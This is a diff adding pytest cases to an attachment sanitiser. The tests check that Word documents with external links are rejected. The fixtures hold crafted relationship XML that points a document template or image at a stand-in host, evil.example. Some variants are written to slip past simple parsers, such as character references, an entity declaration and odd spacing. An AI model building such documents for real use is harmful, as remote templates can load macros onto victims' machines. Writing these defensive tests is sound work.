@@ -230,6 +230,80 @@ def test_a_word_document_that_would_run_or_fetch_something_is_refused(
     )
 
 
+def _template_link(relationship: str) -> dict[str, str]:
+    return {
+        "word/_rels/settings.xml.rels": (
+            f'<Relationships xmlns="{REL}">{relationship}</Relationships>'
+        )
+    }
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        _template_link(
+            f"<Relationship Id='rId1' Type='{R}/attachedTemplate' "
+            "Target='file://evil.example/share/t.dotm' TargetMode='External'/>"
+        ),
+        _template_link(
+            '<Relationship Id="rId1" Target="https://evil.example/?a>b" '
+            f'Type="{R}/attachedTemplate" TargetMode="External"/>'
+        ),
+        _template_link(
+            f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
+            'Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"/>'
+        ),
+        _template_link(
+            f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
+            'Target="https://evil.example/t.dotm" TargetMode = "External"/>'
+        ),
+        _template_link(
+            f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
+            'Target="https://evil.example/relationships/hyperlink" TargetMode="External"/>'
+        ),
+        {
+            "word/_rels/document.xml.rels": (
+                f'<Relationships xmlns="{REL}"><Relationship Id="rId2" Type="{R}/image" '
+                'Target="https://evil.example/pixel.png" TargetMode="External"/></Relationships>'
+            )
+        },
+    ],
+    ids=[
+        "single quotes",
+        "a > inside a value",
+        "a character reference",
+        "spaces around =",
+        "a target ending like a hyperlink type",
+        "a picture fetched from outside",
+    ],
+)
+@pytest.mark.parametrize("keep_original", [False, True])
+def test_a_link_to_outside_the_document_is_refused_however_its_xml_is_written(
+    extra: dict[str, str], keep_original: bool
+) -> None:
+    with pytest.raises(AttachmentRejected) as refused:
+        clean_upload("rota.docx", word_document(**extra), keep_original=keep_original)
+    assert "links to outside files" in refused.value.message
+
+
+@pytest.mark.parametrize("keep_original", [False, True])
+def test_a_word_document_whose_links_part_is_not_plain_xml_is_refused_as_damaged(
+    keep_original: bool,
+) -> None:
+    entities = (
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "External">]>'
+        f'<Relationships xmlns="{REL}"><Relationship Id="rId1" Type="{R}/attachedTemplate" '
+        'Target="https://evil.example/t.dotm" TargetMode="&e;"/></Relationships>'
+    )
+    with pytest.raises(AttachmentRejected) as refused:
+        clean_upload(
+            "rota.docx",
+            word_document(**{"word/_rels/settings.xml.rels": entities}),
+            keep_original=keep_original,
+        )
+    assert "is damaged" in refused.value.message
+
+
 def test_a_kept_word_document_warns_about_author_and_comments() -> None:
     original = word_document()
     kept = clean_upload("statement.docx", original, keep_original=True)
